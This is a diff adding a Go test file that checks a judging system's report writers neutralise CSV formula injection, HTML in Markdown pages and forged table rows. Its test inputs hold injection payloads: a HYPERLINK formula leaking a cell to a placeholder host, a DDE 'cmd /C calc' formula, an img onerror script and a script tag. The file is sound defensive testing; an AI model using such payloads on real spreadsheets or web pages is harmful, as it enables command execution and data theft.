@@ -1,0 +1,73 @@
+package reports
+
+import (
+	"bytes"
+	"encoding/csv"
+	"strings"
+	"testing"
+
+	"github.com/judgehq/judge/problems"
+)
+
+func TestCSVText(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"alice", "alice"},
+		{"=HYPERLINK(\"http://x/?\"&A2)", "'=HYPERLINK(\"http://x/?\"&A2)"},
+		{"+1", "'+1"},
+		{"-cmd", "'-cmd"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\tx", "'\tx"},
+		{"a=b", "a=b"},
+		{"\x1b]0;t\x07", `\x1b]0;t\a`},
+		{"", ""},
+	}
+	for _, tt := range tests {
+		if got := CSVText(tt.in); got != tt.want {
+			t.Errorf("CSVText(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+		if got := UnCSVText(CSVText(tt.in)); !strings.Contains(tt.in, "\x1b") && got != tt.in {
+			t.Errorf("UnCSVText(CSVText(%q)) = %q", tt.in, got)
+		}
+	}
+	if got := UnCSVText("'quoted"); got != "'quoted" {
+		t.Errorf("UnCSVText changed a text it did not make: %q", got)
+	}
+}
+
+// TestReportTextIsInert writes results.csv and a problem's Markdown page for a
+// submission and a message crafted to act on what opens them: a formula for a
+// spreadsheet, HTML for a Markdown renderer, a line break to forge a table row.
+func TestReportTextIsInert(t *testing.T) {
+	res := []problems.Result{{Run: "r", Problem: "sudoku", Submission: "=cmd|' /C calc'!A0",
+		Source: "<img src=x onerror=alert(1)>.c", Dataset: "sample/1",
+		Outcome: problems.Outcome{Verdict: problems.WA, Message: "-2+3\n| 1 | fake.c | AC |"}}}
+	var buf bytes.Buffer
+	if err := WriteCSV(&buf, res); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, cell := range recs[1] {
+		if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+			t.Errorf("results.csv cell %q would be a formula", cell)
+		}
+	}
+	pr := RankProblem(problems.Meta{Slug: "<script>x</script>", Title: "T & <b>", Kind: problems.PassFail}, res, nil)
+	var md bytes.Buffer
+	if err := WriteProblemMarkdown(&md, pr); err != nil {
+		t.Fatal(err)
+	}
+	if s := md.String(); strings.ContainsAny(s, "<>") {
+		t.Errorf("HTML in the Markdown page:\n%s", s)
+	}
+	var tbl bytes.Buffer
+	rows := [][]string{{res[0].Submission, res[0].Outcome.Message}}
+	if err := WriteTable(&tbl, ASCII, []Column{{Name: "submission"}, {Name: "message"}}, rows); err != nil {
+		t.Fatal(err)
+	}
+	if n := strings.Count(tbl.String(), "\n"); n != 5 {
+		t.Errorf("a table of one row drew %d lines, want 5 (a cell broke its line):\n%s", n, tbl.String())
+	}
+}
